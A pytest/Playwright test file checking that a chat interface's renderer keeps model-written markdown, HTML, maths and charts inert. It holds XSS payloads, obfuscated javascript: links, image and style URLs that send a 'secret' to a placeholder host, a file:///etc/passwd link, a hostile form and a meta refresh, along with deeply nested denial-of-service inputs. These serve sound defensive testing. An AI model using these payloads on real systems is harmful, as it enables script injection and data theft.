"""What a model may write without harm: nothing of it runs, loads or leads where it does not say."""

from typing import TYPE_CHECKING, Any

import pytest

from browser.creating import answer, box, choose_echo, created, say, sealed
from browser.waiting import soon
from serving import Served

if TYPE_CHECKING:
    from playwright.sync_api import Page

EVIL = {
    "script": "<script>window.caught = 1</script> <img src=x onerror='window.caught=1'> <svg onload=alert(1)>",
    "frame": "<iframe src='javascript:parent.caught=1'></iframe><object data='data:text/html,x'></object>",
    "picture": "![x](http://203.0.113.9/a.png?q=secret) ![y][1]\n\n[1]: //203.0.113.9/b.png",
    "link": "[a](javascript:window.caught=1) [b](data:text/html,<script>1</script>) [c](vbscript:x) "
    "<javascript:alert(1)>",
    "hidden link": "[d](java\tscript:alert(1)) [e](&#106;avascript:alert(1)) [f](//203.0.113.9/x) [g](file:///etc/passwd)",
    "maths": r"$\href{javascript:window.caught=1}{x}$ $\style{background:url(http://203.0.113.9/z)}{y}$ "
    r"$\includegraphics{http://203.0.113.9/i.png}$ $\htmlData{a=b}{z}$ $\color{red;background:url(//203.0.113.9)}{w}$",
    "style": "<style>body{background:url(http://203.0.113.9/s)}</style><link rel=stylesheet href=//203.0.113.9/c>",
    "diagram": "```mermaid\ngraph TD; A-->B; click A 'javascript:window.caught=1'\n```\n"
    '```vega\n{"data":{"url":"http://203.0.113.9/v"}}\n```',
    "chart": "```chart\nbar | <img src=x onerror=window.caught=1> | //203.0.113.9\n"
    '<script>window.caught=1</script> | 12\n" onload="window.caught=1 | 3\n```',
    "form": "<form action=http://203.0.113.9><input name=q><button>go</button></form>"
    "<meta http-equiv=refresh content='0;url=//203.0.113.9'>",
}
NOT_HERE = "script, iframe, object, embed, img, svg[onload], link, style, form, input, meta, [onerror], [style*=url]"


def _shown(guarded: Any, served: Served, text: str) -> "Page":
    page = created(guarded, served)
    say(page, text)
    sealed(page)
    page.wait_for_timeout(150)
    return page


@pytest.mark.parametrize("kind", EVIL)
def test_fault_47_what_a_model_writes_stays_text(guarded: Any, served: Served, kind: str) -> None:
    page = _shown(guarded, served, EVIL[kind])
    prose = answer(page)
    assert prose.locator(NOT_HERE).count() == 0
    assert page.evaluate("window.caught") is None
    for link in prose.locator("a").all():
        assert (link.get_attribute("href") or "").startswith(("http://", "https://", "mailto:"))
        assert link.get_attribute("target") == "_blank"
        assert {"noopener", "noreferrer"} <= set((link.get_attribute("rel") or "").split())


def test_fault_47_a_link_says_where_it_leads(guarded: Any, served: Served) -> None:
    page = _shown(guarded, served, "[your bank](https://evil.example/bank) and https://plain.example/x")
    soon(page, lambda: "your bank (evil.example)" in answer(page).inner_text())
    assert "(plain.example)" not in answer(page).inner_text()


def test_fault_47_html_is_shown_as_it_was_written(guarded: Any, served: Served) -> None:
    page = _shown(guarded, served, "before <b onclick=x>bold</b> after")
    soon(page, lambda: answer(page).inner_text() == "before <b onclick=x>bold</b> after")


@pytest.mark.parametrize(
    "text",
    [
        "> " * 3000 + "deep",
        "".join("  " * depth + "- item\n" for depth in range(300)),
        "[" * 5000 + "]" * 5000,
        "**" * 4000 + "x",
        "$" * 3001,
        r"$\def\a{\a\a}\a$ $" + "{" * 400 + "}" * 400 + "$",
        "`" * 4001,
        "|a" * 300 + "|\n" + "|-" * 300 + "|\n",
    ],
    ids=["quotes", "lists", "brackets", "stars", "dollars", "macros", "ticks", "columns"],
)
def test_fault_47_deep_and_long_texts_do_not_stop_the_page(guarded: Any, served: Served, text: str) -> None:
    page = _shown(guarded, served, text)
    assert page.evaluate("1 + 1") == 2
    soon(page, lambda: answer(page).inner_text().strip() or answer(page).locator("*").count())


def test_fault_47_of_a_huge_table_only_a_part_is_drawn_until_asked(guarded: Any, served: Served) -> None:
    rows = "".join(f"|{number}|x|\n" for number in range(2000))
    page = created(guarded, served)
    page.evaluate(
        "localStorage.setItem('inkseal.draft.create.settings', JSON.stringify({model: 'echo', max_tokens: 30000}))"
    )
    page.reload()
    say(page, "|n|y|\n|-|-|\n" + rows)
    sealed(page)
    soon(page, lambda: answer(page).locator("tbody tr").count() == 100)
    page.get_by_role("button", name="Show all 2000 rows").click()
    soon(page, lambda: answer(page).locator("tbody tr").count() == 2000)


def test_code_is_coloured_and_copied_as_it_is(guarded: Any, served: Served) -> None:
    page = created(guarded, served)
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    code = 'def f(a: int) -> str:\n    return "<b>" + str(a)  # 1'
    say(page, f"```python\n{code}\n```")
    sealed(page)
    block = answer(page).locator(".code")
    block.locator(".code-keyword").first.wait_for()
    soon(block, lambda: block.locator("figcaption").inner_text().startswith("Python"))
    soon(block, lambda: block.locator("pre").inner_text() == code)
    block.get_by_role("button", name="Copy the code").click()
    block.get_by_role("button", name="Copied").wait_for()
    soon(page, lambda: page.evaluate("navigator.clipboard.readText()") == code)


def test_formulas_are_mathml_and_unreadable_ones_their_tex(guarded: Any, served: Served) -> None:
    page = _shown(
        guarded, served, "$\\frac{a}{b}$ and \\(x^2\\) for $5 and $6 or `$n$`\n\n$$\\sum_{i=0}^n i$$\n\n$\\frac{a$"
    )
    answer(page).locator("math").nth(2).wait_for()
    soon(page, lambda: answer(page).locator("math").count() == 3)
    soon(page, lambda: answer(page).locator("mfrac").count() == 1)
    soon(
        page,
        lambda: page.evaluate("document.querySelector('math').namespaceURI") == "http://www.w3.org/1998/Math/MathML",
    )
    soon(page, lambda: "for $5 and $6 or $n$" in answer(page).inner_text())
    soon(page, lambda: r"\frac{a" in answer(page).inner_text())


def test_while_two_hundred_tokens_a_second_come_only_the_last_block_is_drawn_again(guarded: Any, tmp_path: Any) -> None:
    from serving import serving

    with serving(tmp_path / "data", settings="[backends.echo]\nseconds_per_token = 0.005\n") as own:
        page = created(guarded, own)
        choose_echo(page, max_tokens=4000)
        page.reload()
        box(page).wait_for()
        text = "\n\n".join(
            f"Paragraph {number} with **bold** and `code` and more words to read." for number in range(150)
        )  # a quarter of a minute, of which one second is looked at
        say(page, text)
        page.locator(".turn-answer[aria-busy=true] .prose p").nth(8).wait_for()
        seen = page.evaluate(
            """async () => {
              const first = document.querySelector('.turn-answer .prose p');
              const count = () => document.querySelectorAll('.turn-answer .prose p').length;
              const begin = performance.now(), before = count();
              let changed = 0, frames = 0;
              const watcher = new MutationObserver((found) => { changed += found.length; });
              watcher.observe(first, {subtree: true, childList: true, characterData: true});
              while (performance.now() - begin < 1000) { await new Promise(requestAnimationFrame); frames += 1; }
              return {frames, grown: count() - before, changed};
            }"""
        )
        page.close()
    assert seen["grown"] > 2
    assert seen["changed"] == 0, "a block that is settled is not drawn again"
    assert seen["frames"] >= 5, "the page goes on drawing while it takes words"


def test_a_chart_is_drawn_and_read_aloud_and_what_is_none_stays_code(guarded: Any, served: Served) -> None:
    chart = "```chart\nbar | Sales | k€\nNorth | 1200\nSouth | 950.5\n```"
    none = ["bar | no unit\na | 1", "bar | t | u\na | NaN", "bar | t | u\na | 1e16", "pie | t | u\na | 1"]
    page = _shown(guarded, served, "\n\n".join([chart, *(f"```chart\n{lines}\n```" for lines in none)]))
    prose = answer(page)
    soon(prose, lambda: prose.locator("figure.chart svg").count() == 1)
    soon(prose, lambda: prose.locator("figure.chart figcaption").inner_text() == "Sales (k€)")
    rows = prose.locator("figure.chart table tr").all_text_contents()
    assert rows == ["North1,200", "South950.5"]
    soon(prose, lambda: prose.locator("pre").count() == len(none))
